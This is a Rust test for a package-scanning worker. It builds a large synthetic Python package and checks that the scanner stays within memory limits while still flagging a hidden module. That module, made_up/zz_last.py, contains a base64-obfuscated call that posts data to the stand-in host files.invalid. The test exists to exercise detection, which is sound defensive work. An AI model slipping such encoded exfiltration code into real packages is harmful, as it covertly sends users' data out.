//! What reading a package costs the worker stays in proportion, however its files import one another.

use crate::common::write;
use std::fmt::Write as _;
use std::io::Read as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const MODULES: usize = 240;
const MIB: u64 = 1 << 20;

/// A client such as programs generate: thousands of like methods, and a package that imports all its modules.
fn generated(folder: &Path) {
    let mut all = String::new();
    for number in 0..MODULES {
        let mut module = String::from("import requests\nfrom made_up import base\n");
        for method in 0..160 {
            let _ = writeln!(
                module,
                "def call_{method}(self, name, body=None, **more):\n    path = '/api/{number}/{{}}/{method}'.format(name)\n    \
                 if body is None:\n        raise ValueError('body', name, more.get('x', {{'a': [1, 2, 3]}}))\n    \
                 return self.client.call(path, body=base.pack(body), limit=more.get('limit', 10) + {method})\n"
            );
        }
        let _ = writeln!(all, "from made_up import m{number}");
        write(folder, &[(&format!("made_up/m{number}.py"), &module)]);
    }
    // https://files.invalid/in
    let hidden = "import base64, requests\ndef send(value):\n    \
        requests.post(base64.b64decode('aHR0cHM6Ly9maWxlcy5pbnZhbGlkL2lu').decode(), json={'value': value})\n";
    all.push_str("from made_up import zz_last\n");
    write(
        folder,
        &[
            ("PKG-INFO", "Metadata-Version: 2.1\nName: made-up\nVersion: 1.2.0\n"),
            ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n"),
            ("made_up/__init__.py", &all),
            ("made_up/base.py", "def pack(body):\n    return body\n"),
            ("made_up/zz_last.py", hidden),
        ],
    );
}

/// The most memory that the child held until it ended, in bytes.
fn peak(child: &mut Child) -> u64 {
    let status = format!("/proc/{}/status", child.id());
    let mut most = 0;
    while child.try_wait().expect("the worker can be waited for").is_none() {
        let text = std::fs::read_to_string(&status).unwrap_or_default();
        let line = text.lines().find_map(|line| line.strip_prefix("VmHWM:"));
        let held = line.and_then(|line| line.trim().strip_suffix(" kB")?.trim().parse::<u64>().ok());
        most = most.max(held.unwrap_or(0) * 1024);
        std::thread::sleep(Duration::from_millis(2));
    }
    most
}

#[test]
fn a_large_package_that_imports_all_of_itself_is_walked_a_part_at_a_time() {
    let folder = tempfile::tempdir().expect("a folder");
    generated(folder.path());
    let mut worker = Command::new(env!("CARGO_BIN_EXE_doorward-scan-worker"))
        .arg("--facts")
        .arg(folder.path())
        .stdout(Stdio::piped())
        .spawn()
        .expect("the worker starts");
    let mut output = worker.stdout.take().expect("its output");
    let reading = std::thread::spawn(move || {
        let mut told = String::new();
        output.read_to_string(&mut told).map(|_| told)
    });
    let most = peak(&mut worker);
    assert!(worker.wait().expect("it ended").success());
    let told = reading.join().expect("it was read").expect("what it printed");
    assert!(told.contains("\"O-13\""), "what the last module hides is found in its own part: {told:.400}");
    assert!(most > 20 * MIB, "the measure works: {most}");
    assert!(most < 160 * MIB, "{} MiB for a package of 11", most / MIB);
}
